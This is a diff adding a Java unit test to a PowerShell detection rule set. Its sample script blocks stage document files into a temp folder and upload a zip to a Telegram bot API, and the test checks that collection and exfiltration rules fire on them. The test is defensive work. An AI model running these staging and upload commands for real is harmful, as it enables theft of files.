@@ -148,4 +148,14 @@ class PowerShellRulesTest {
     assertThat(firedAlone(POWERSHELL, scriptBlock("Get-ADDefaultDomainPasswordPolicy | Export-Csv "
         + "D:\\reports\\policy.csv -NoTypeInformation"))).doesNotContain("shield-ps-disc-021");
   }
+
+  @Test
+  void documentsStagedAndFormUploadToAChatBot() {
+    assertThat(firedAlone(POWERSHELL, scriptBlock("Get-ChildItem E:\\Data -Recurse -Include *.docx,*.pdf | "
+        + "Copy-Item -Destination C:\\Temp\\s\\"))).contains("shield-ps-coll-021");
+    assertThat(firedAlone(POWERSHELL, scriptBlock("Invoke-RestMethod -Uri 'https://api.telegram.org/bot1/sendDocument' "
+        + "-Method Post -Form @{document=Get-Item c:\\temp\\a.zip}"))).contains("shield-ps-exfil-001");
+    assertThat(firedAlone(POWERSHELL, scriptBlock("Get-ChildItem E:\\Data -Recurse -Include *.log | Remove-Item")))
+        .doesNotContain("shield-ps-coll-021");
+  }
 }
